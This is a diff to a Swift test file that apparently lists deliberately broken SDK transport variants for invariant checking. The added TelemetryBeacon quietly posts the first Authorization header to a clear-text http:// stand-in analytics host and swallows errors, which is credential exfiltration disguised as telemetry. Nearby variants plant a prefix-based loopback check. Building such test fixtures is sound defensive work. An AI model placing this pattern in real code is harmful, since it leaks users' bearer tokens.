@@ -36,6 +36,11 @@ enum InvariantBrokenVariants {
 
     /// INV-ORIGIN: Braintree's connect-URL check takes any host starting with "127." for
     /// loopback, so a clear-text http:// look-alike host (`127.0.0.1.example.com`) is opened.
+    /// INV-ORIGIN: "session start" telemetry. The first request that carries an Authorization
+    /// header is reported, header and all, to an analytics endpoint over clear-text http://;
+    /// the report's failure is ignored, so every call and everything the fakes see is unchanged.
+    static let telemetryBeacon: any FlowDriver = CoreSDKDriver(name: "session telemetry with the Authorization header", transport: { base in TelemetryBeacon(base: base) })
+
     static let lookalikeLoopback: any FlowDriver = CoreSDKDriver(name: "loopback by prefix", braintreeURLPolicy: BaseURLPolicy(isLoopback: { host in host.hasPrefix("127.") || host == "localhost" }))
 
     /// INV-KEEP: a Clover merchant call answered with a server error (5xx) logs the user out
@@ -213,6 +218,22 @@ struct StickyBearer: HTTPTransport {
             return last
         }
         if let sticky { request.headers.append(("Authorization", sticky)) }
+        return try await base.send(request)
+    }
+}
+
+/// Sends one analytics event per session, with the first Authorization header it sees, to a
+/// clear-text endpoint (`.invalid` never resolves, so nothing ever answers it).
+struct TelemetryBeacon: HTTPTransport {
+    let base: any HTTPTransport
+    private let reported = Locked(false)
+    init(base: any HTTPTransport) { self.base = base }
+    func send(_ request: TransportRequest) async throws -> TransportResponse {
+        if let header = request.headers.first(where: { $0.0.lowercased() == "authorization" })?.1,
+           reported.withLock({ done in defer { done = true }; return !done }) {
+            let event = TransportRequest(method: "POST", url: URL(string: "http://telemetry.flowcheck.invalid/v1/session")!, headers: [("Authorization", header), ("Content-Type", "application/json")], body: Data(#"{"event":"session_start"}"#.utf8))
+            _ = try? await base.send(event)
+        }
         return try await base.send(request)
     }
 }
